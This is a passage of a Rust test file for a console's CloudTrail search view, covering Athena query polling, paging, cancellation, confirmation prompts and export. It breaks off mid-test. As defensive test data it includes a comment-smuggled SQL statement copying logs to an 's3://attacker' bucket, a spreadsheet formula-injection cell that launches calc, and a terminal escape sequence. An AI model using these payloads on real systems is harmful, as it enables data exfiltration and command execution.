//! The trail view through the console's own update path: a filter becomes one pruned query,
//! polled with backoff through QUEUED and RUNNING (and back), its pages streamed into the
//! table; failures, cancels, stale answers, raw SQL, details, copy, export, and the changes
//! of an alarm.

use super::calls::{TrailCall, TrailLoaded};
use super::state::{Focus, Phase};
use crate::app::action::{Action, InputKey, Loaded};
use crate::app::command::Command;
use crate::app::state::{Loadable, State};
use crate::app::update::update;
use crate::overlays::Overlay;
use crate::source::SourceError;
use crate::source::trail::{QueryState, QueryStatus, ResultPage, Search, TrailSettings};
use crate::ui::fixture;
use crate::views::{View, ViewCall};

fn state() -> State {
    let mut s = fixture::state();
    s.size = (160, 48);
    s.views.trail.available = Some(Ok(TrailSettings::default()));
    s.views.trail.history_path = Some("/nonexistent/trail-history.json".into());
    s
}

fn run(s: &mut State, line: &str) -> Vec<Command> {
    update(s, Action::Run(line.into())).commands
}

fn token(s: &State) -> String {
    s.views.trail.query.as_ref().unwrap().token.clone()
}

fn loaded(s: &mut State, l: impl Into<Loaded>) -> Vec<Command> {
    update(s, Action::Loaded(Box::new(l.into()))).commands
}

fn status(state: QueryState, scanned: u64) -> QueryStatus {
    QueryStatus {
        state,
        reason: None,
        scanned_bytes: scanned,
        total_millis: None,
        reused: false,
        statement_type: Some("DML".into()),
    }
}

const COLUMNS: [&str; 9] = [
    "eventtime",
    "recipientaccountid",
    "arn",
    "eventname",
    "eventsource",
    "awsregion",
    "errorcode",
    "sourceipaddress",
    "eventid",
];

fn event(i: usize, name: &str) -> Vec<Option<String>> {
    vec![
        Some(format!("2026-11-25T0{}:00:00Z", i % 10)),
        Some(fixture::PROD.into()),
        Some("arn:aws:sts::210987654321:assumed-role/ml-deployer/alice".into()),
        Some(name.into()),
        Some("sagemaker.amazonaws.com".into()),
        Some("eu-west-1".into()),
        None,
        Some("10.0.0.7".into()),
        Some(format!("id-{i}")),
    ]
}

fn page(rows: Vec<Vec<Option<String>>>, next: Option<&str>, first: bool) -> Box<ResultPage> {
    Box::new(ResultPage {
        columns: if first {
            COLUMNS.iter().map(|c| c.to_string()).collect()
        } else {
            Vec::new()
        },
        rows,
        next: next.map(str::to_owned),
    })
}

/// A search started and Athena's id given back.
fn started(s: &mut State, filter: &str) -> String {
    let cmds = run(s, &format!("trail {filter}"));
    assert!(
        cmds.iter()
            .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
        "{cmds:?}"
    );
    let t = token(s);
    let cmds = loaded(
        s,
        TrailLoaded::Started {
            token: t.clone(),
            result: Ok("q-1".into()),
        },
    );
    assert!(
        matches!(&cmds[..], [Command::View(ViewCall::Trail(TrailCall::Poll { id, .. }))] if id == "q-1")
    );
    t
}

#[test]
fn a_filter_becomes_one_pruned_query_polled_through_queued_and_running_then_paged() {
    let mut s = state();
    let cmds = run(&mut s, "trail event:UpdateEndpoint account:prod since:2h");
    assert_eq!(s.view, View::Trail);
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?}")
    };
    assert!(q.sql.contains("\"timestamp\" BETWEEN"), "{}", q.sql);
    assert!(
        q.sql.contains("recipientaccountid IN ('210987654321')"),
        "{}",
        q.sql
    );
    assert!(q.sql.ends_with("LIMIT 500"), "{}", q.sql);
    assert!(
        q.token.len() >= 32,
        "Athena wants 32 characters: {}",
        q.token
    );
    assert!(matches!(q.search, Search::Filter { .. }));
    let t = q.token.clone();
    loaded(
        &mut s,
        TrailLoaded::Started {
            token: t.clone(),
            result: Ok("q-1".into()),
        },
    );
    // QUEUED, RUNNING, back to QUEUED (a transient error in Athena), RUNNING: polled on,
    // further apart each time.
    let mut delays = Vec::new();
    for st in [
        QueryState::Queued,
        QueryState::Running,
        QueryState::Queued,
        QueryState::Running,
    ] {
        let cmds = loaded(
            &mut s,
            TrailLoaded::Status {
                token: t.clone(),
                result: Ok(status(st, 40_000_000)),
            },
        );
        let [Command::View(ViewCall::Trail(TrailCall::Poll { delay_ms, .. }))] = &cmds[..] else {
            panic!("{cmds:?}")
        };
        delays.push(*delay_ms);
    }
    assert!(delays.windows(2).all(|w| w[0] <= w[1]), "{delays:?}");
    let text = super::progress_text(s.views.trail.query.as_ref().unwrap(), 0, s.now);
    assert!(
        text.contains("RUNNING") && text.contains("40.0 MB") && text.contains("$0.0002"),
        "{text}"
    );
    let cmds = loaded(
        &mut s,
        TrailLoaded::Status {
            token: t.clone(),
            result: Ok(status(QueryState::Succeeded, 52_000_000)),
        },
    );
    assert!(
        matches!(
            &cmds[..],
            [Command::View(ViewCall::Trail(TrailCall::Page {
                next: None,
                header: true,
                ..
            }))]
        ),
        "the first page of a SELECT carries the header: {cmds:?}"
    );
    // Three pages stream in; each is on screen before the next is asked for.
    let cmds = loaded(
        &mut s,
        TrailLoaded::Page {
            token: t.clone(),
            result: Ok(page(
                (0..3).map(|i| event(i, "UpdateEndpoint")).collect(),
                Some("p2"),
                true,
            )),
        },
    );
    assert_eq!(s.views.trail.results.len(), 3);
    assert!(
        matches!(&cmds[..], [Command::View(ViewCall::Trail(TrailCall::Page { next: Some(n), header: false, .. }))] if n == "p2")
    );
    loaded(
        &mut s,
        TrailLoaded::Page {
            token: t.clone(),
            result: Ok(page(
                vec![event(3, "CreateEndpointConfig")],
                Some("p3"),
                false,
            )),
        },
    );
    let cmds = loaded(
        &mut s,
        TrailLoaded::Page {
            token: t.clone(),
            result: Ok(page(vec![event(4, "CreateModel")], None, false)),
        },
    );
    assert_eq!(s.views.trail.results.len(), 5);
    assert_eq!(s.views.trail.query.as_ref().unwrap().phase, Phase::Done);
    assert!(
        cmds.iter().any(
            |c| matches!(c, Command::View(ViewCall::Trail(TrailCall::SaveHistory { entries, .. })) if entries[0].rows == 5)
        ),
        "the history keeps it: {cmds:?}"
    );
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(
        screen.contains("SUCCEEDED") && screen.contains("5 rows"),
        "{screen}"
    );
    assert!(
        screen.contains("CreateEndpointConfig") && screen.contains("prod"),
        "{screen}"
    );
}

#[test]
fn failed_shows_athenas_reason_and_a_cancel_stops_the_execution() {
    let mut s = state();
    let t = started(&mut s, "event:CreateEndpoint");
    let mut failed = status(QueryState::Failed, 0);
    failed.reason = Some(
        "TABLE_NOT_FOUND: line 1:8: Table 'default.cloudtrail_logs' does not exist\u{1b}[2J".into(),
    );
    loaded(
        &mut s,
        TrailLoaded::Status {
            token: t,
            result: Ok(failed),
        },
    );
    let q = s.views.trail.query.as_ref().unwrap();
    let Phase::Failed(reason) = &q.phase else {
        panic!("{:?}", q.phase)
    };
    assert!(
        reason.contains("TABLE_NOT_FOUND") && !reason.contains('\u{1b}'),
        "{reason}"
    );
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(
        screen.contains("FAILED") && screen.contains("TABLE_NOT_FOUND"),
        "{screen}"
    );

    // Cancelled while running: StopQueryExecution, and later answers change nothing.
    let t = started(&mut s, "event:CreateEndpoint");
    let cmds = update(&mut s, Action::CancelQuery).commands;
    assert!(
        matches!(&cmds[..], [Command::View(ViewCall::Trail(TrailCall::Cancel { id })), ..] if id == "q-1"),
        "{cmds:?}"
    );
    assert_eq!(
        s.views.trail.query.as_ref().unwrap().phase,
        Phase::Cancelled
    );
    let cmds = loaded(
        &mut s,
        TrailLoaded::Status {
            token: t,
            result: Ok(status(QueryState::Running, 1)),
        },
    );
    assert!(cmds.is_empty(), "{cmds:?}");
    assert_eq!(s.views.trail.history[0].state, QueryState::Cancelled);
}

#[test]
fn a_new_search_cancels_the_old_one_and_its_late_answers_are_dropped() {
    let mut s = state();
    let old = started(&mut s, "event:CreateEndpoint");
    let cmds = run(&mut s, "trail event:UpdateEndpoint");
    assert!(
        cmds.iter().any(
            |c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Cancel { id })) if id == "q-1")
        ),
        "{cmds:?}"
    );
    let cmds = loaded(
        &mut s,
        TrailLoaded::Page {
            token: old,
            result: Ok(page(vec![event(1, "CreateEndpoint")], None, true)),
        },
    );
    assert!(cmds.is_empty());
    assert!(
        s.views.trail.results.is_empty(),
        "rows of the old query never reach the new table"
    );
}

#[test]
fn throttled_polls_are_retried_then_given_up() {
    let mut s = state();
    let t = started(&mut s, "event:CreateEndpoint");
    let throttled = || SourceError::Throttled {
        call: "GetQueryExecution".into(),
    };
    for _ in 0..4 {
        let cmds = loaded(
            &mut s,
            TrailLoaded::Status {
                token: t.clone(),
                result: Err(throttled()),
            },
        );
        assert!(
            matches!(
                &cmds[..],
                [Command::View(ViewCall::Trail(TrailCall::Poll { .. }))]
            ),
            "{cmds:?}"
        );
    }
    let cmds = loaded(
        &mut s,
        TrailLoaded::Status {
            token: t,
            result: Err(throttled()),
        },
    );
    assert!(matches!(
        s.views.trail.query.as_ref().unwrap().phase,
        Phase::Failed(_)
    ));
    // Given up on here, it is stopped in Athena rather than left scanning.
    assert!(
        cmds.iter().any(
            |c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Cancel { id })) if id == "q-1")
        ),
        "{cmds:?}"
    );
}

#[test]
fn a_throttled_page_is_read_again_from_where_it_was() {
    let mut s = state();
    let t = started(&mut s, "event:CreateEndpoint");
    loaded(
        &mut s,
        TrailLoaded::Status {
            token: t.clone(),
            result: Ok(status(QueryState::Succeeded, 1)),
        },
    );
    loaded(
        &mut s,
        TrailLoaded::Page {
            token: t.clone(),
            result: Ok(page(vec![event(1, "CreateEndpoint")], Some("p2"), true)),
        },
    );
    let cmds = loaded(
        &mut s,
        TrailLoaded::Page {
            token: t.clone(),
            result: Err(SourceError::Throttled {
                call: "GetQueryResults".into(),
            }),
        },
    );
    let [
        Command::View(ViewCall::Trail(TrailCall::Page {
            next,
            delay_ms,
            header,
            ..
        })),
    ] = &cmds[..]
    else {
        panic!("{cmds:?}")
    };
    assert_eq!(next.as_deref(), Some("p2"), "the same page again");
    assert!(*delay_ms > 0 && !header);
    loaded(
        &mut s,
        TrailLoaded::Page {
            token: t,
            result: Ok(page(vec![event(2, "CreateEndpoint")], None, false)),
        },
    );
    assert_eq!(s.views.trail.results.len(), 2);
    assert_eq!(s.views.trail.query.as_ref().unwrap().phase, Phase::Done);
}

#[test]
fn nothing_is_left_running_in_athena_when_the_console_lets_go_of_it() {
    let mut s = state();
    // A search replaced before its start answered: stopped when it answers.
    run(&mut s, "trail since:30d");
    let first = token(&s);
    run(&mut s, "trail since:1h");
    let cmds = loaded(
        &mut s,
        TrailLoaded::Started {
            token: first,
            result: Ok("q-old".into()),
        },
    );
    assert_eq!(
        cmds,
        vec![Command::View(ViewCall::Trail(TrailCall::Cancel {
            id: "q-old".into()
        }))]
    );
    // A detail closed while it is read: stopped.
    with_rows(&mut s);
    let cmds = update(&mut s, Action::Select).commands;
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds.first() else {
        panic!("{cmds:?}")
    };
    loaded(
        &mut s,
        TrailLoaded::Started {
            token: q.token.clone(),
            result: Ok("q-detail".into()),
        },
    );
    let cmds = update(&mut s, Action::Back).commands;
    assert_eq!(
        cmds,
        vec![Command::View(ViewCall::Trail(TrailCall::Cancel {
            id: "q-detail".into()
        }))]
    );
    // Quitting while a search runs: stopped (the workers wait for it).
    started(&mut s, "event:CreateEndpoint");
    let cmds = update(&mut s, Action::Quit).commands;
    assert!(s.should_quit);
    assert_eq!(
        cmds,
        vec![Command::View(ViewCall::Trail(TrailCall::Cancel {
            id: "q-1".into()
        }))]
    );
}

#[test]
fn until_alone_searches_the_day_before_it() {
    let mut s = state();
    let cmds = run(&mut s, "trail until:2d");
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?} {:?}", s.views.trail.error)
    };
    let Search::Filter { from, to, .. } = q.search else {
        panic!()
    };
    assert_eq!(to, s.now - 2 * 86_400);
    assert_eq!(from, to - crate::trail::filter::DEFAULT_SPAN_SECS);
}

#[test]
fn a_bad_filter_points_at_its_token_and_sends_nothing() {
    let mut s = state();
    let cmds = run(&mut s, "trail event:CreateEndpoint since:yesterday");
    assert!(cmds.is_empty(), "{cmds:?}");
    let (start, end, message) = s.views.trail.error.clone().unwrap();
    assert_eq!(&s.views.trail.text[start..end], "yesterday", "{message}");
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(screen.contains("^^^^^^^^^"), "{screen}");
}

#[test]
fn an_unknown_account_label_is_pointed_at_in_its_own_word() {
    let mut s = state();
    let cmds = run(&mut s, "trail user:prodx account:staging,prodx");
    assert!(cmds.is_empty(), "{cmds:?}");
    let (start, end, message) = s.views.trail.error.clone().unwrap();
    assert_eq!(&s.views.trail.text[start..end], "prodx", "{message}");
    assert!(
        start > "trail user:prodx account:".len() - "trail ".len(),
        "{start}"
    );
    assert!(
        message.contains("staging"),
        "the labels it knows: {message}"
    );
}

#[test]
fn raw_sql_without_a_partition_predicate_asks_first() {
    let mut s = state();
    let sql = "SELECT useridentity.arn, useridentity.sessioncontext.sourceidentity, requestparameters FROM observability_replicated_logs WHERE eventname = 'CreateEndpoint' AND eventsource = 'sagemaker.amazonaws.com'";
    let cmds = run(&mut s, &format!("sql {sql}"));
    assert!(
        !cmds
            .iter()
            .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
        "nothing runs before the confirmation: {cmds:?}"
    );
    assert!(matches!(s.overlays.last(), Some(Overlay::Confirm(_))));
    crate::overlays::confirm::moment_passes(&mut s);
    let cmds = update(&mut s, Action::Input(InputKey::Char('y'))).commands;
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds.first() else {
        panic!("{cmds:?}")
    };
    assert_eq!(q.sql, sql, "raw SQL runs as written");
    assert_eq!(q.search, Search::Raw);
    // With the partition bounded at both ends it runs at once.
    let pruned = format!("{sql} AND \"timestamp\" BETWEEN '2026/11/20' AND '2026/11/25'");
    let cmds = run(&mut s, &format!("sql {pruned}"));
    assert!(
        cmds.iter()
            .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
        "{cmds:?}"
    );
    // Sent as typed: spaces inside a string literal are part of the value searched for.
    let spaced = format!("{pruned} AND useragent = 'aws-cli/2  Python'");
    let cmds = run(&mut s, &format!("sql  {spaced}  "));
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?}")
    };
    assert_eq!(q.sql, spaced);
}

/// The confirmation on top, if one is open.
fn confirmation(s: &State) -> Option<&crate::overlays::confirm::Confirm> {
    match s.overlays.last() {
        Some(Overlay::Confirm(c)) => Some(c),
        _ => None,
    }
}

#[test]
fn a_search_wider_than_max_range_days_asks_first_and_sends_nothing_until_y() {
    let mut s = state();
    // A duration, an absolute time: each asks, and nothing is sent before `y`.
    for filter in [
        "since:32d",
        "since:2000-01-01T00:00:00Z event:UpdateEndpoint",
    ] {
        let cmds = run(&mut s, &format!("trail {filter}"));
        assert!(
            !cmds
                .iter()
                .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
            "{filter}: nothing before the confirmation: {cmds:?}"
        );
        let c = confirmation(&s).unwrap_or_else(|| panic!("{filter}: a confirmation"));
        assert_eq!(c.title, "Search more than 31 days of the trail?");
        assert!(
            c.lines.join(" ").contains("more than max_range_days = 31"),
            "{:?}",
            c.lines
        );
        // Said in lines an 80-column terminal shows whole, then the filter.
        assert!(
            c.lines.iter().all(|l| l.chars().count() <= 72),
            "{:?}",
            c.lines
        );
        assert_eq!(
            c.lines.last().map(String::as_str),
            Some(filter),
            "{:?}",
            c.lines
        );
        // `n` lets it go: still nothing sent.
        crate::overlays::confirm::moment_passes(&mut s);
        let cmds = update(&mut s, Action::Input(InputKey::Char('n'))).commands;
        assert!(cmds.is_empty(), "{cmds:?}");
        assert!(s.overlays.is_empty());
        assert!(s.views.trail.query.is_none());
    }
    run(&mut s, "trail since:2000-01-01T00:00:00Z");
    crate::overlays::confirm::moment_passes(&mut s);
    let cmds = update(&mut s, Action::Input(InputKey::Char('y'))).commands;
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?}")
    };
    let Search::Filter { from, .. } = q.search else {
        panic!("{:?}", q.search)
    };
    assert_eq!(from, 946_684_800, "the range as typed");
    assert!(q.sql.contains("BETWEEN '2000/01/01'"), "{}", q.sql);
    // Up to the bound, at once; the bound is the config's.
    let cmds = run(&mut s, "trail since:31d");
    assert!(
        cmds.iter()
            .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
        "{cmds:?}"
    );
    s.views.trail.available = Some(Ok(TrailSettings {
        max_range_days: 60,
        ..TrailSettings::default()
    }));
    let cmds = run(&mut s, "trail since:40d");
    assert!(
        cmds.iter()
            .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
        "{cmds:?}"
    );
    assert!(confirmation(&s).is_none());
}

#[test]
fn raw_sql_reading_more_days_than_max_range_days_asks_first() {
    let mut s = state();
    for sql in [
        "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" BETWEEN '2000/01/01' AND '2026/11/29'",
        // Days that cannot be read from the bounds.
        "SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" >= '0000' AND \"timestamp\" <= '2026/11/29'",
    ] {
        let cmds = run(&mut s, &format!("sql {sql}"));
        assert!(
            !cmds
                .iter()
                .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_))))),
            "nothing before the confirmation: {cmds:?}"
        );
        let c = confirmation(&s).unwrap_or_else(|| panic!("{sql}: a confirmation"));
        assert!(
            c.lines.join(" ").contains("max_range_days = 31"),
            "{:?}",
            c.lines
        );
        crate::overlays::confirm::moment_passes(&mut s);
        let cmds = update(&mut s, Action::Input(InputKey::Char('y'))).commands;
        let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
            .iter()
            .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
        else {
            panic!("{cmds:?}")
        };
        assert_eq!(q.sql, sql);
    }
}

#[test]
fn raw_sql_with_a_write_or_a_comment_is_refused_and_sends_nothing() {
    let mut s = state();
    for sql in [
        "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'",
        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
    ] {
        let cmds = run(&mut s, &format!("sql {sql}"));
        assert!(cmds.is_empty(), "{cmds:?}");
        assert!(confirmation(&s).is_none(), "refused, not asked");
        assert!(s.views.trail.error.is_some());
    }
}

fn with_rows(s: &mut State) {
    let t = started(s, "event:UpdateEndpoint");
    loaded(
        s,
        TrailLoaded::Status {
            token: t.clone(),
            result: Ok(status(QueryState::Succeeded, 1)),
        },
    );
    loaded(
        s,
        TrailLoaded::Page {
            token: t,
            result: Ok(page(
                vec![event(1, "UpdateEndpoint"), event(2, "=cmd|' /C calc'!A0")],
                None,
                true,
            )),
        },
    );
}

#[test]
fn enter_reads_the_events_detail_by_id_on_its_day() {
    let mut s = state();
    with_rows(&mut s);
    let cmds = update(&mut s, Action::Select).commands;
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds.first() else {
        panic!("{cmds:?}")
    };
    assert!(matches!(&q.search, Search::Event { event_id, .. } if event_id == "id-1"));
    assert!(
        q.sql.contains("eventid = 'id-1'") && q.sql.contains("\"timestamp\" BETWEEN"),
        "{}",
        q.sql
    );
    let t = q.token.clone();
    loaded(
        &mut s,
        TrailLoaded::Started {
            token: t.clone(),
            result: Ok("q-2".into()),
        },
    );
    loaded(
        &mut s,
        TrailLoaded::Status {
            token: t.clone(),
            result: Ok(status(QueryState::Succeeded, 1)),
        },
    );
    loaded(
        &mut s,
        TrailLoaded::Page {
            token: t,
            result: Ok(Box::new(ResultPage {
                columns: vec!["eventid".into(), "requestparameters".into()],
                rows: vec![vec![
                    Some("id-1".into()),
                    Some(r#"{"endpointName":"fraud-detector","endpointConfigName":"fraud-detector-v2"}"#.into()),
                ]],
                next: None,
            })),
        },
    );
    let d = s.views.trail.detail.as_ref().unwrap();
    assert!(matches!(&d.fields, Loadable::Loaded(f) if f.len() == 2));
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(
        screen.contains("\"endpointConfigName\": \"fraud-detector-v2\""),
        "{screen}"
    );
    update(&mut s, Action::Back);
    assert!(
        s.views.trail.detail.is_none(),
        "Esc closes the detail first"
    );
    assert_eq!(s.view, View::Trail);
}

#[test]
fn y_copies_the_selected_cell_and_export_takes_every_row() {
    let mut s = state();
    with_rows(&mut s);
    // Time, account, principal, then the event name.
    for _ in 0..3 {
        update(&mut s, Action::ColumnRight);
    }
    let cmds = update(&mut s, Action::CopyCell).commands;
    assert_eq!(cmds, vec![Command::Clipboard("UpdateEndpoint".into())]);
    let cmds = run(&mut s, "export csv /tmp/x.csv");
    let [Command::Export(job)] = &cmds[..] else {
        panic!("{cmds:?}")
    };
    assert_eq!(job.rows.len(), 2);
    assert_eq!(job.path.as_deref(), Some("/tmp/x.csv"));
    // A path with spaces is quoted; unquoted, it is refused rather than cut at its space.
    let cmds = run(&mut s, "export csv \"/tmp/a b.csv\"");
    let [Command::Export(job)] = &cmds[..] else {
        panic!("{cmds:?}")
    };
    assert_eq!(job.path.as_deref(), Some("/tmp/a b.csv"));
    // The line reaches the command as typed: two spaces in quotes stay two.
    let cmds = run(&mut s, "export  csv  \"/tmp/a  b.csv\" ");
    let [Command::Export(job)] = &cmds[..] else {
        panic!("{cmds:?}")
    };
    assert_eq!(job.path.as_deref(), Some("/tmp/a  b.csv"));
    let cmds = run(&mut s, "export csv /tmp/a b.csv");
    assert!(cmds.is_empty(), "{cmds:?}");
    let said = &s.flash.as_ref().unwrap().text;
    assert!(
        said.contains("expected one path") && said.contains("quote"),
        "{said}"
    );
    let cmds = run(&mut s, "export csv '/tmp/a b.csv");
    assert!(cmds.is_empty(), "{cmds:?}");
    assert!(s.flash.as_ref().unwrap().text.contains("not closed"));
    let cmds = run(&mut s, "export xml");
    assert!(cmds.is_empty());
    assert!(
        s.flash
            .as_ref()
            .unwrap()
            .text
            .contains("expected csv or jsonl")
    );
}

#[test]
fn the_slash_filter_keeps_matching_rows_and_history_reruns() {
    let mut s = state();
    with_rows(&mut s);
    crate::views::module(View::Trail).set_filter(&mut s, "calc");
    assert_eq!(s.views.trail.results.visible_len(), 1);
    update(&mut s, Action::FocusNext);
    assert_eq!(s.views.trail.focus, Focus::History);
    let cmds = update(&mut s, Action::Select).commands;
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?}")
    };
    assert!(
        q.sql.contains("eventname IN ('UpdateEndpoint')"),
        "{}",
        q.sql
    );
}

#[test]
fn c_on_an_alarm_searches_the_writes_on_its_endpoint_from_hours_before_it_fired() {
    let mut s = state();
    crate::app::navigate::show(&mut s, View::Alarms);
    // The fixture's alarms: find one in ALARM on an endpoint and select it.
    let i = s
        .views
        .alarms
        .rows
        .iter()
        .position(|&i| {
            s.alarms[i].endpoint.is_some()
                && s.alarms[i].state == crate::source::model::AlarmState::Alarm
        })
        .expect("an alarm in ALARM on an endpoint");
    s.views.alarms.selected = i;
    let alarm = s.alarms[s.views.alarms.rows[i]].clone();
    let key = alarm.endpoint.clone().unwrap();
    let cmds = update(&mut s, Action::ShowChanges).commands;
    assert_eq!(s.view, View::Trail);
    // First what the endpoint is made of, said on the progress line; no search yet.
    let asked = cmds.iter().find_map(|c| match c {
        Command::View(ViewCall::Trail(TrailCall::Makeup { endpoint, from })) => {
            Some((endpoint.clone(), *from))
        }
        _ => None,
    });
    let Some((endpoint, from)) = asked else {
        panic!("{cmds:?}")
    };
    assert_eq!(endpoint, key);
    assert!(s.views.trail.query.is_none(), "no search before the makeup");
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(screen.contains("config and models"), "{screen}");
    let makeup = crate::source::model::EndpointMakeup {
        config: "cfg-v2".into(),
        pending_config: Some("cfg-v3".into()),
        models: vec!["model-v2".into(), "model-v3".into()],
        last_modified: None,
    };
    let cmds = loaded(
        &mut s,
        TrailLoaded::Makeup(Box::new(super::calls::MakeupRead {
            endpoint,
            from,
            result: Ok(makeup),
        })),
    );
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?}")
    };
    let Search::Filter {
        filter,
        accounts,
        from,
        ..
    } = &q.search
    else {
        panic!("{:?}", q.search)
    };
    assert_eq!(filter.readonly, Some(false), "write events only");
    // The endpoint's account first, then where its alarms live.
    assert_eq!(accounts[0], key.account_id);
    assert!(accounts.contains(&alarm.account_id), "{accounts:?}");
    // Its resources by name, each exactly: the endpoint, its schedules, its alarms.
    use crate::trail::filter::ResourceMatch;
    let named = |n: &str| ResourceMatch::Named(n.to_owned());
    assert!(filter.resources.contains(&named(&key.name)));
    // Its configs and models, which name the CreateEndpointConfig and CreateModel.
    for made_of in ["cfg-v2", "cfg-v3", "model-v2", "model-v3"] {
        assert!(filter.resources.contains(&named(made_of)), "{made_of}");
    }
    let e = s.endpoint(&key).unwrap();
    for schedule in &e.monitoring_schedules {
        assert!(filter.resources.contains(&named(schedule)), "{schedule}");
    }
    for a in s
        .alarms
        .iter()
        .filter(|a| a.endpoint.as_ref() == Some(&key))
    {
        assert!(filter.resources.contains(&named(&a.name)), "{}", a.name);
    }
    assert!(
        filter
            .resources
            .iter()
            .all(|r| matches!(r, ResourceMatch::Named(_))),
        "{:?}",
        filter.resources
    );
    assert_eq!(*from, alarm.state_since - super::changes::LEAD_SECS);
    assert!(q.sql.contains("readonly = 'false'"), "{}", q.sql);
    // Its events are marked on the endpoint's charts.
    let t = token(&s);
    answer(
        &mut s,
        t,
        page(vec![event(1, "UpdateEndpoint")], None, true),
    );
    let marks = s.change_marks.for_endpoint(&key);
    assert_eq!(marks.len(), 1);
    assert_eq!(marks[0].1, "UpdateEndpoint");
    // On the endpoint's charts whose window holds it.
    s.views.endpoint.endpoint = Some(key);
    s.view = View::Endpoint;
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 160, 48));
    assert!(screen.contains("▲ 1 change"), "{screen}");
}

/// `c` on the fixture's first endpoint; the makeup asked for.
fn changes_asked(s: &mut State) -> (crate::source::model::EndpointKey, i64) {
    crate::app::navigate::show(s, View::Fleet);
    let cmds = update(s, Action::ShowChanges).commands;
    cmds.iter()
        .find_map(|c| match c {
            Command::View(ViewCall::Trail(TrailCall::Makeup { endpoint, from })) => {
                Some((endpoint.clone(), *from))
            }
            _ => None,
        })
        .unwrap_or_else(|| panic!("{cmds:?}"))
}

#[test]
fn changes_without_the_endpoints_makeup_search_what_is_known_and_say_what_is_missing() {
    let mut s = state();
    let (endpoint, from) = changes_asked(&mut s);
    let denied = SourceError::AccessDenied {
        call: "DescribeEndpoint 111111111111".into(),
        action: "sagemaker:DescribeEndpoint".into(),
    };
    let cmds = loaded(
        &mut s,
        TrailLoaded::Makeup(Box::new(super::calls::MakeupRead {
            endpoint: endpoint.clone(),
            from,
            result: Err(denied),
        })),
    );
    let Some(Command::View(ViewCall::Trail(TrailCall::Start(q)))) = cmds
        .iter()
        .find(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    else {
        panic!("{cmds:?}")
    };
    let Search::Filter { filter, .. } = &q.search else {
        panic!("{:?}", q.search)
    };
    assert!(
        filter
            .resources
            .contains(&crate::trail::filter::ResourceMatch::Named(endpoint.name)),
        "the endpoint's own changes are still searched"
    );
    let said = &s.flash.as_ref().unwrap().text;
    assert!(
        said.contains("config and models not read") && said.contains("sagemaker:DescribeEndpoint"),
        "{said}"
    );
}

#[test]
fn a_search_typed_while_the_makeup_is_read_is_not_replaced_by_it() {
    let mut s = state();
    let (endpoint, from) = changes_asked(&mut s);
    run(&mut s, "trail event:CreateModel");
    let typed = token(&s);
    let cmds = loaded(
        &mut s,
        TrailLoaded::Makeup(Box::new(super::calls::MakeupRead {
            endpoint,
            from,
            result: Ok(Default::default()),
        })),
    );
    assert!(cmds.is_empty(), "{cmds:?}");
    assert_eq!(token(&s), typed);
    assert_eq!(s.views.trail.text, "event:CreateModel");
}

#[test]
fn without_a_trail_configured_the_view_says_what_to_set() {
    let mut s = state();
    s.views.trail.available = Some(Err(
        "CloudTrail search is not configured: add [trail]".into()
    ));
    let cmds = run(&mut s, "trail event:CreateEndpoint");
    assert!(
        !cmds
            .iter()
            .any(|c| matches!(c, Command::View(ViewCall::Trail(TrailCall::Start(_)))))
    );
    let screen = crate::ui::tests::plain(&crate::ui::tests::render(&s, 80, 24));
    assert!(
        screen.contains("[trail]") && screen.contains("workgroup"),
        "{screen}"
    );
}

#[test]
fn tab_completes_keys_account_labels_and_event_names_seen() {
    let mut s = state();
    with_rows(&mut s);
    let c = crate::app::commands::completions(&s, "trail source:sagemaker ev");
    assert_eq!(c.first().map(String::as_str), Some("event:"), "{c:?}");
    let c = crate::app::commands::completions(&s, "trail event:Upd");
